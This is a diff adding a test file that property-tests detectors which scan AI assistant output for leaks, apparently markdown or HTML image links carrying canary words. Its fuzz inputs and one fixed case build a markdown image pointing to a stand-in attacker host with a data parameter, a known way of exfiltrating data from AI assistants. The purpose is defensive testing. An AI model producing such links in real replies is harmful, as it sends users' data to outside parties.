@@ -1,0 +1,39 @@
+import fc from "fast-check";
+import { describe, expect, it } from "vitest";
+import { canaryWord, detectors, isCanaryWord } from "./index.ts";
+
+describe.each(detectors)("the detector $id", (detector) => {
+  const inspect = (text: string) => detector.inspect({ stage: "output", role: "assistant", text });
+
+  it("gives signals that lie in the text, in any text", () => {
+    const word = canaryWord(5);
+    const piece = fc.oneof(
+      fc.string({ unit: "binary", maxLength: 20 }),
+      fc.constantFrom("![](", "https://attacker.example/?d=", word, "`", "\n", "[a]: ", "<img src=", ")"),
+    );
+    fc.assert(
+      fc.property(fc.array(piece, { maxLength: 30 }), (parts) => {
+        const text = parts.join("");
+        for (const { start, end, score, detector: id } of inspect(text)) {
+          expect(id).toBe(detector.id);
+          expect(start).toBeGreaterThanOrEqual(0);
+          expect(end).toBeGreaterThan(start);
+          expect(end).toBeLessThanOrEqual(text.length);
+          expect(end - start).toBeLessThanOrEqual(detector.maxSpan);
+          expect(score > 0 && score <= 1).toBe(true);
+        }
+      }),
+    );
+  });
+
+  it("says the same of the same text", () => {
+    const text = `![a](https://attacker.example/p?d=${canaryWord(9)})`;
+    expect(inspect(text)).toEqual(inspect(text));
+    expect(inspect(text).length).toBe(1);
+  });
+});
+
+it("canary words are known as such at the door", () => {
+  expect(isCanaryWord(canaryWord(77))).toBe(true);
+  expect(isCanaryWord("internationalise")).toBe(false);
+});
